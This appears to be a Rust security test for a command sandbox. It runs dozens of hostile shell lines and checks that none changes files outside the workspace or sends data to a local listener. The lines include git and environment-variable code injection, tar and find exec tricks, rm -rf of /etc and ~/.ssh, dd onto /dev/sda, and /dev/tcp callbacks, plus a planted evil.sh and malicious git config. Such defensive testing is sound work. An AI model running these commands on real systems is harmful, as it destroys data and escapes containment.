//! Lines that are known to do more than they seem to, run behind the wall as they are.

use std::fs;
use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::path::Path;
use std::time::Duration;

use sandbox::Mode;

use crate::ground::{Ground, open, run_in};

/// One line of each kind, for where the larger collection does not lie beside the repository.
const OWN: &[&str] = &[
    "BASH_ENV=./evil.sh bash -c :",
    "GIT_EXTERNAL_DIFF=./evil.sh git diff",
    "GIT_SSH_COMMAND='touch PWN;' git ls-remote ssh://a/b",
    "git -c core.fsmonitor=./evil.sh status",
    "git -c alias.x='!touch PWN' x",
    "git diff --output=PWN",
    "git diff",
    "git log -p --ext-diff",
    "find . -name a.txt -exec touch PWN ;",
    "find . -fprint PWN",
    "awk 'BEGIN{system(\"touch PWN\")}'",
    "sed -n '1e touch PWN' a.txt",
    "sed -n 'w PWN' a.txt",
    "tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='touch PWN' a.txt",
    "sort -o PWN a.txt",
    "python3 -c 'open(\"PWN\",\"w\")'",
    "perl -e 'system q(touch PWN)'",
    "node -e 'require(\"fs\").writeFileSync(\"PWN\",\"\")'",
    "echo \"$(touch PWN)\"",
    "cat <(touch PWN)",
    "> PWN",
    "echo x | tee PWN",
    "trap 'touch PWN' EXIT",
    "alias ls='touch PWN'\nshopt -s expand_aliases\nls",
    "setsid nohup touch PWN",
    "xargs touch PWN </dev/null",
    "cp evil.sh .git/hooks/pre-commit",
    "mv .git x; mkdir .git; touch .git/PWN",
    "ln -s / PWN",
    "npm run t",
    "cargo check --offline",
    "rm -rf ~/.ssh ~/.profile /etc /usr/bin .git",
    "rm -rf .",
    "rm -rf \"$PWD\" ../outside",
    "chmod -R 777 /etc ..",
    "chown -R 1 /etc ..",
    "dd if=/dev/zero of=/dev/sda count=1",
    "curl -s http://127.0.0.1:PORT/x",
    "echo x > /dev/udp/127.0.0.1/PORT",
];

fn lines() -> Vec<String> {
    let mut lines: Vec<String> = OWN.iter().map(|line| (*line).to_owned()).collect();
    let beside = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/shell-corpus.tsv");
    let more = fs::read_to_string(beside).unwrap_or_default();
    for line in more.lines().skip(1) {
        let columns: Vec<&str> = line.split('\t').collect();
        let text = columns[3].replace("\\n", "\n").replace("\\r", "\r").replace("\\\\", "\\");
        lines.push(if columns[2] == "zsh" { format!("zsh -c '{}'", text.replace('\'', "'\\''")) } else { text });
    }
    lines
}

/// A workspace in which every tool finds something hostile.
fn hostile(ground: &Ground, port: u16) {
    let outside = ground.path("outside").display().to_string();
    let evil = format!(
        "#!/bin/sh\ntouch PWN {outside}/PWN\necho x > /dev/tcp/127.0.0.1/{port}\ncurl -m1 -s http://127.0.0.1:{port}/\ncat \"$@\"\n"
    );
    for name in ["evil.sh", "bin/ls", "ex/git-foo"] {
        ground.put(name, &evil);
        fs::set_permissions(ground.ws(name), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    }
    ground.put("e.js", &format!("require('fs').writeFileSync('{outside}/PWN','')"));
    ground.put("s.sed", &format!("w {outside}/PWN\n"));
    ground.put("package.json", r#"{"name":"x","version":"1.0.0","scripts":{"t":"./evil.sh"}}"#);
    ground
        .put("Cargo.toml", "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\nbuild = \"build.rs\"\n");
    ground.put("build.rs", &format!("fn main() {{ let _ = std::fs::write(\"{outside}/PWN\", \"\"); }}"));
    ground.put("src/lib.rs", "");
    ground.put(".gitattributes", "*.txt diff=evil filter=evil\n");
    for (key, value) in [
        ("core.fsmonitor", "./evil.sh"),
        ("diff.evil.textconv", "./evil.sh"),
        ("diff.external", "./evil.sh"),
        ("filter.evil.clean", "./evil.sh"),
    ] {
        ground.git(&["config", key, value]);
    }
    ground.put("a.txt", "hello\nfoo\nbar\n");
}

#[test]
fn sec_02_whatever_a_line_does_nothing_outside_changes_and_not_a_byte_leaves() {
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = tcp.local_addr().unwrap().port();
    let udp = UdpSocket::bind(("127.0.0.1", port)).unwrap();
    tcp.set_nonblocking(true).unwrap();
    udp.set_nonblocking(true).unwrap();
    let ground = Ground::with_repository();
    hostile(&ground, port);
    let mut profile = ground.profile(Mode::Workspace);
    // What they do to a home folder must not happen to a real one either.
    profile.readable = vec![ground.path("outside")];
    let sandbox = open(profile);
    let head = fs::read(ground.ws(".git/config")).unwrap();
    let outside = ground.path("outside").join("PWN").display().to_string();
    for line in lines() {
        let line = line.replace("PORT", &port.to_string());
        let elsewhere = line.contains("PWN").then(|| line.replace("PWN", &outside));
        for line in [Some(line), elsewhere].into_iter().flatten() {
            let ran = run_in(&sandbox, &ground.path("ws"), &line, Duration::from_secs(10));
            assert_eq!(ran.ended.started, Ok(()), "{line}: {}", ran.output);
            ground.assert_unharmed();
            assert_eq!(fs::read(ground.ws(".git/config")).unwrap(), head, "{line}");
            assert!(!ground.ws(".git/hooks/pre-commit").exists(), "{line}");
            assert!(tcp.accept().is_err() && udp.recv(&mut [0; 16]).is_err(), "something left: {line}");
        }
        // `rm -rf` may have emptied the workspace: that is what it may.
        if !ground.ws("evil.sh").exists() || !ground.ws("a.txt").exists() {
            hostile_again(&ground, port);
        }
    }
    // The listeners do hear what really comes.
    std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    tcp.set_nonblocking(false).unwrap();
    let (mut stream, _) = tcp.accept().unwrap();
    assert_eq!(stream.read(&mut [0; 1]).unwrap(), 0);
}

fn hostile_again(ground: &Ground, port: u16) {
    let config = fs::read(ground.ws(".git/config")).unwrap();
    hostile(ground, port);
    fs::write(ground.ws(".git/config"), config).unwrap();
}
